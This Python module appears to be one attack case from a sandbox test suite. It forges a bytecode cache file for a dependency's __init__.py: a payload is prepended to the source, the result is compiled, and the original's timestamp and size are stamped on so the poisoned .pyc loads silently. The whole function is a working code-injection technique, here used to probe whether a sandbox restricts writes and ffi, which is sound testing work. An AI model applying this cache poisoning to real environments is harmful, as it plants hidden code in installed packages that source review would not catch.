"""A compiled file is planted where nobody restricts ffi or write."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "allow"
BEYOND = ("A compiled file is as powerful as native code: restrict ffi, and "
          "it is not believed.")
ENV = {"PYTHONDONTWRITEBYTECODE": ""}

import importlib._bootstrap_external as external
import os

from . import payload


def attack():
    path = payload.DEPS + "/good/__init__.py"
    with open(path) as file:
        text = payload.SOURCE + "\n" + file.read()
    code = compile(text, path, "exec")
    status = os.stat(path)
    cache = external.cache_from_source(path)
    os.makedirs(os.path.dirname(cache), exist_ok=True)
    with open(cache, "wb") as file:
        file.write(external._code_to_timestamp_pyc(
            code, int(status.st_mtime), status.st_size))
